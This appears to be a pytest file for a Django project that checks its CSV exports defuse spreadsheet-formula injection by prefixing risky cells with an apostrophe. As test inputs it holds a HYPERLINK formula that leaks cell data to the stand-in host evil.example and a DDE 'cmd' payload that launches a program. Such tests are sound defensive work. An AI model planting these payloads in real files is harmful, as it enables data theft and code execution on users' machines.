"""Spreadsheet-formula injection (issue 21, finding 4): every CSV a person opens neutralises a
cell that a spreadsheet would run as a formula, the way OWASP recommends."""

import csv
import io

import pytest
from django.test import Client

from tandem import spreadsheet
from tandem.partners.models import Role
from tests import factories
from tests.signing_in import VerifiedClient

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for your report")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+44 7700 900123", "'+44 7700 900123"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Jayden Smith", "Jayden Smith"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_a_cell_that_would_run_is_written_as_text(value, written):
    assert spreadsheet.cell(value) == written


@pytest.mark.django_db
def test_a_formula_typed_as_a_username_is_text_in_the_ig_lead_s_audit_export():
    Client().post("/sign-in", {"username": FORMULA, "password": "wrong"})
    ig = factories.UserFactory(role=Role.IG_LEAD)
    client = VerifiedClient()
    client.force_login(ig)
    response = client.get("/audit/export.csv")
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(body)))
    cells = [c for row in rows for c in row]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(spreadsheet.FORMULA_START)]


@pytest.mark.django_db
def test_the_extract_problems_file_neutralises_what_the_file_held(tmp_path):
    """The value column repeats what a partner's file held: a hostile cell stays text."""
    from tandem.linkage.validate import RowError, write_errors

    path = tmp_path / "errors.csv"
    write_errors([RowError(2, "Forename", "=cmd|' /C calc'!A0", "is not a name")], path)
    rows = list(csv.reader(path.open()))
    assert rows[1][2] == "'=cmd|' /C calc'!A0"
